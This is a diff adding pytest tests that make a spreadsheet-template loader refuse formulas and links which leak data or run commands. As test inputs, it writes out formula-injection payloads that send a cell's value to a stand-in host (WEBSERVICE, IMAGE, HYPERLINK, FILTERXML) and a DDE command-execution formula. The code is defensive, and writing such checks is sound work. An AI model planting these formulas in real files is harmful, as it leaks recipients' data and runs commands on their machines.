@@ -30,6 +30,7 @@ from ia_events.domain.events import Event
 from ia_events.domain.fields import RETURNED
 from ia_events.domain.people import Attendee, Role
 from ia_events.spreadsheets.references import shift_formula
+from ia_events.spreadsheets.template_opening import open_template
 from ia_events.spreadsheets.templates import fill_template
 
 MADE_AT = datetime(2026, 12, 17, 13, 45, tzinfo=UTC)
@@ -430,6 +431,80 @@ def test_what_would_make_a_file_excel_refuses_is_said_before_filling(part: str, 
 
     assert error.code == "template_would_lose"
     assert word in error.message
+
+
+TOLD = '"http://exemple.fr/?n="&A4'
+
+
+@pytest.mark.parametrize(
+    "formula, word",
+    [
+        (f"=WEBSERVICE({TOLD})", "WEBSERVICE"),
+        (f"=_xlfn.WEBSERVICE ({TOLD})", "WEBSERVICE"),
+        (f'=IF(A4="","",filterxml(B4,{TOLD}))', "FILTERXML"),
+        ('=RTD("progid",,A4)', "RTD"),
+        (f"=_xlfn.IMAGE({TOLD})", "IMAGE"),
+        (f'=HYPERLINK({TOLD},"clic")', "HYPERLINK"),
+        ("=cmd|'/c calc'!A0", "DDE"),
+    ],
+)
+@pytest.mark.parametrize("place", ["cell", "validation", "name"])
+def test_what_would_tell_others_the_data_is_refused_by_name(
+    formula: str, word: str, place: str, tmp_path: Path
+) -> None:
+    def make(sheet: Worksheet) -> None:
+        sheet["A4"] = "{{nom}}"
+        if place == "cell":
+            sheet["D4"] = formula
+        elif place == "validation":
+            sheet.add_data_validation(DataValidation(type="custom", formula1=formula.removeprefix("="), sqref="A1"))
+        else:
+            assert sheet.parent is not None
+            sheet.parent.defined_names["ailleurs"] = DefinedName("ailleurs", attr_text=formula.removeprefix("="))
+
+    error = refusal(tmp_path, make)
+
+    assert error.code == "template_tells"
+    assert word in error.message
+
+
+@pytest.mark.parametrize(
+    "kind, word",
+    [("externalLink", "autres classeurs"), ("connections", "connexions"), ("queryTable", "requêtes")],
+)
+def test_what_is_linked_to_data_elsewhere_is_refused_by_name(kind: str, word: str, tmp_path: Path) -> None:
+    workbook = Workbook()
+    workbook.worksheets[0]["A1"] = "{{titre}}"
+    workbook.save(tmp_path / "modele.xlsx")
+    with zipfile.ZipFile(tmp_path / "modele.xlsx", "a") as archive:
+        archive.writestr(
+            "xl/worksheets/_rels/sheet1.xml.rels",
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
+            f' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="../a.xml"/></Relationships>',
+        )
+
+    error = refusal_of(tmp_path / "modele.xlsx")
+
+    assert error.code == "template_tells"
+    assert word in error.message
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=HYPERLINK("mailto:"&A4,"Écrire")',
+        '=HYPERLINK("http://exemple.fr/?a=1&b=2","Site")',
+        "=SUM(B4:B9)&WEB",
+        '="RTD"',
+    ],
+)
+def test_formulas_that_tell_nobody_stay(formula: str, tmp_path: Path) -> None:
+    workbook = Workbook()
+    workbook.worksheets[0]["A4"] = "{{nom}}"
+    workbook.worksheets[0]["D4"] = formula
+    workbook.save(tmp_path / "modele.xlsx")
+
+    assert open_template(tmp_path / "modele.xlsx").sheets()
 
 
 def test_a_truncated_template_is_refused(tmp_path: Path) -> None:
